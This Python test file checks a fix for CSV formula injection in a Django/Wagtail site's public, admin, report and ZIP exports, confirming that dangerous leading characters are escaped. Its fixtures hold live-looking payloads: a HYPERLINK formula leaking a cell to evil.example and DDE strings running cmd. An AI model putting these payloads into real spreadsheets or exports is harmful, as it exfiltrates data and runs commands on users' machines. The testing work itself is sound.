"""Finding 5: CSV formula injection. Text cells starting with =, +, -, @, tab or CR reach
spreadsheets escaped (a leading apostrophe) in the public CSV export, the admin's CSV
exports and the library ZIP, which still reads its own cells back unchanged."""

import csv
import io
import zipfile

import pytest

from casestudies.models import CasePage, Contact, Organisation
from core.csvsafe import escape_cell, unescape_cell
from transfer.library import export_library, library_to_zip, zip_to_library

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
TAG_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = "-2+3+cmd|' /C calc'!A0"


def _rows(text):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula_cells(rows):
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and len(cell) > 1
    ]


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1", "''=1"),
        ("Leerstand", "Leerstand"),
        (-3, -3),
        ("", ""),
        ("-", "-"),
    ],
)
def test_escape_cell_follows_owasp_and_round_trips(raw, escaped):
    assert escape_cell(raw) == escaped
    assert unescape_cell(escaped) == raw


@pytest.mark.django_db
def test_public_csv_export_escapes_formulas(client, demo_site):
    case = CasePage.objects.live().public().filter(themes__slug="wohnen").first()
    CasePage.objects.filter(pk=case.pk).update(summary=FORMULA)
    case.tags.add(TAG_FORMULA)
    response = client.get("/export/faelle.csv", {"thema": "wohnen"})
    assert response.status_code == 200
    rows = _rows(response.content.decode("utf-8"))
    assert any("'" + FORMULA in row for row in rows)
    assert not _no_formula_cells(rows)


@pytest.mark.django_db
def test_admin_csv_exports_escape_formulas(admin_client, demo_site):
    organisation = Organisation.objects.first()
    Contact.objects.create(
        function=DDE, name="@Angreifer", organisation=organisation, phone="+49 30 1234"
    )
    organisation.short_name = FORMULA[:40]
    organisation.save()
    for url in (
        "/admin/snippets/casestudies/contact/?export=csv",
        "/admin/casestudies/organisation/?export=csv",
    ):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        text = b"".join(response.streaming_content).decode("utf-8")
        rows = _rows(text)
        assert len(rows) > 1
        assert not _no_formula_cells(rows), url
        assert any(("'" + DDE) in row or ("'" + FORMULA[:40]) in row for row in rows), url


@pytest.mark.django_db
def test_library_zip_escapes_formulas_and_reads_them_back(demo_site):
    case = CasePage.objects.live().first()
    CasePage.objects.filter(pk=case.pk).update(summary=DDE)
    data = export_library()
    raw = library_to_zip(data)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        rows = _rows(archive.read("cases.csv").decode("utf-8"))
    assert not _no_formula_cells(rows)
    back = zip_to_library(raw)
    assert DDE in {record.get("summary") for record in back["cases"]}


@pytest.mark.django_db
def test_wagtail_report_csv_exports_escape_formulas(admin_client, demo_site):
    """Wagtail's own reports (core/safe_reports.py) export escaped cells too."""
    from django.urls import resolve, reverse

    from core import safe_reports

    case = CasePage.objects.live().first()
    case.title = DDE
    case.save_revision(log_action=True).publish()
    for name in ("aging_pages", "site_history", "locked_pages", "page_types_usage"):
        url = reverse(f"wagtailadmin_reports:{name}")
        assert resolve(url).func.view_class.__module__ == safe_reports.__name__, name
    for url in ("/admin/redirects/", "/admin/searchpicks/reports/search-terms/"):
        assert resolve(url).func.view_class.__module__ == safe_reports.__name__, url
    for name in ("aging_pages", "site_history"):
        url = reverse(f"wagtailadmin_reports:{name}")
        response = admin_client.get(url, {"export": "csv"})
        assert response.status_code == 200, name
        rows = _rows(b"".join(response.streaming_content).decode("utf-8"))
        assert len(rows) > 1, name
        assert not _no_formula_cells(rows), name
        assert any(cell.startswith("'" + DDE) for row in rows for cell in row), name
